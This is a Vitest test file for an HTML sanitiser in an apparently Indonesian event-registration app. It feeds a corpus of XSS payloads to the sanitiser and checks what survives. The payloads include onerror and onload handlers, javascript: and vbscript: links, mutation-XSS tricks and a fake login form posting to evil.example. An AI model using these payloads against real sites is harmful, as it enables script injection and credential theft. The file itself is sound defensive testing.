// @vitest-environment jsdom
// code_html's allow-list (src/security/sanitizeHtml.ts) against a hostile corpus: what a visitor
// code needs survives, nothing that runs, restyles the page or collects input does.
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../src/security/sanitizeHtml';

/** Parses sanitised HTML into a detached element, to look at what a browser would build. */
function parse(html: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = sanitizeHtml(html);
  return box;
}

const HOSTILE_HTML: [string, string][] = [
  ['script element', '<script>window.__x=1</script><p>ok</p>'],
  ['img onerror', '<img src=x onerror="window.__x=1">'],
  ['img onerror, upper case', '<IMG SRC="/a.png" ONERROR=alert(1)>'],
  ['svg onload', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
  ['svg image', '<svg><image href="javascript:alert(1)"/></svg>'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['style element', '<style>body{display:none}</style><p>ok</p>'],
  ['style attribute', '<p style="position:fixed;inset:0;background:red">ok</p>'],
  ['class and id', '<p class="sc-button" id="main">ok</p>'],
  ['fake login form', '<form action="https://evil.example/steal"><input name="code"><input type="password"><button>Masuk</button></form>'],
  ['textarea and select', '<textarea>a</textarea><select><option>b</option></select>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['javascript link', '<a href="javascript:alert(1)">klik</a>'],
  ['entity-encoded javascript link', '<a href="jav&#x09;ascript:alert(1)">klik</a>'],
  ['entity-encoded colon', '<a href="javascript&colon;alert(1)">klik</a>'],
  ['mixed-case javascript link', '<a href="JaVaScRiPt:alert(1)">klik</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">klik</a>'],
  ['data html link', '<a href="data:text/html,<script>alert(1)</script>">klik</a>'],
  ['protocol-relative link', '<a href="//evil.example/">klik</a>'],
  ['blob image', '<img src="blob:https://evil.example/1">'],
  ['javascript image', '<img src="javascript:alert(1)">'],
  ['a with event and target top', '<a href="https://ok.example" onclick="alert(1)" target="_top">klik</a>'],
  ['formaction button', '<button formaction="javascript:alert(1)">x</button>'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['data attributes', '<p data-x="1" aria-hidden="true">ok</p>'],
  ['video', '<video src="https://evil.example/v.mp4" autoplay></video>'],
];

const FORBIDDEN_TAGS = ['script', 'style', 'svg', 'math', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed', 'meta', 'base', 'link', 'template', 'details', 'noscript', 'video'];

describe('sanitizeHtml', () => {
  it.each(HOSTILE_HTML)('disarms %s', (_name, html) => {
    const box = parse(html);
    for (const tag of FORBIDDEN_TAGS) expect(box.querySelector(tag), `<${tag}> kept`).toBeNull();
    for (const element of box.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name, `${element.tagName} ${attribute.name}`).toMatch(/^(href|src|alt|title|width|height|target|rel|referrerpolicy)$/);
        if (attribute.name === 'href' || attribute.name === 'src') expect(attribute.value).toMatch(/^(https?:\/\/(localhost(:\d+)?|ok\.example)(\/|$)|\/?[\w.-]+$)/);
      }
    }
    expect(box.innerHTML).not.toMatch(/javascript:|vbscript:|onerror|onload|onclick|ontoggle|style=/i);
  });

  it('keeps what a visitor code needs: formatting, line breaks, lists, the platform’s links and images', () => {
    const html =
      '<p>Kode undangan: <strong>BUDI2026</strong><br><em>Tunjukkan</em> <b>di</b> <i>meja</i> <u>registrasi</u>.</p>' +
      '<ul><li>Hall A</li></ul><a href="https://pameran.example/info">Info</a><img src="https://pameran.example/media/qr.png" alt="QR" width="120" height="120">';
    const box = document.createElement('div');
    box.innerHTML = sanitizeHtml(html, ['https://pameran.example']);
    expect(box.querySelector('strong')?.textContent).toBe('BUDI2026');
    expect(box.querySelectorAll('br, em, b, i, u, ul, li')).toHaveLength(7);
    const link = box.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://pameran.example/info');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    const image = box.querySelector('img')!;
    expect(image.getAttribute('src')).toBe('https://pameran.example/media/qr.png');
    expect(image.getAttribute('alt')).toBe('QR');
  });

  it('keeps the text of a link to another site without its address, and drops images from other sites', () => {
    const box = document.createElement('div');
    box.innerHTML = sanitizeHtml('<a href="https://hadiah-gratis.example/klaim">Klaim hadiah</a><img src="https://pelacak.example/p.gif"><img src="/media/qr/a.svg">', ['https://pameran.example']);
    expect(box.querySelector('a')!.hasAttribute('href')).toBe(false);
    expect(box.querySelector('a')!.textContent).toBe('Klaim hadiah');
    expect([...box.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([]);
  });

  it('lets no image set its own size', () => {
    const image = parse(`<img src="${window.location.origin}/media/qr.png" width="99999" height="99999" style="width:99999px">`).querySelector('img')!;
    expect(image.hasAttribute('width') || image.hasAttribute('height') || image.hasAttribute('style')).toBe(false);
  });

  it('keeps the text of a link whose address is refused, without the address', () => {
    const link = parse('<a href="javascript:alert(1)">klik</a>').querySelector('a')!;
    expect(link.hasAttribute('href')).toBe(false);
    expect(link.textContent).toBe('klik');
  });

  it('drops an image whose address is refused, and marks an image without alt text decorative', () => {
    expect(parse('<p>a<img src="javascript:alert(1)">b</p>').innerHTML).toBe('<p>ab</p>');
    expect(parse(`<img src="${window.location.origin}/a.png">`).querySelector('img')!.getAttribute('alt')).toBe('');
  });

  it('gives nothing for what is not a string', () => {
    expect(sanitizeHtml(null)).toBe('');
    expect(sanitizeHtml({ html: '<p>x</p>' })).toBe('');
  });

  it('keeps the demo visitor’s harmless text and drops its onerror image (server/data.mjs)', () => {
    const box = parse('<p>Kode undangan: <strong>SITI2026</strong></p><img src=x onerror="window.__pameranXss=1">');
    expect(box.textContent).toBe('Kode undangan: SITI2026');
    // `x` is a same-origin relative path: the image stays, harmless, without its handler.
    expect(box.querySelector('img')?.getAttribute('onerror') ?? null).toBeNull();
  });
});
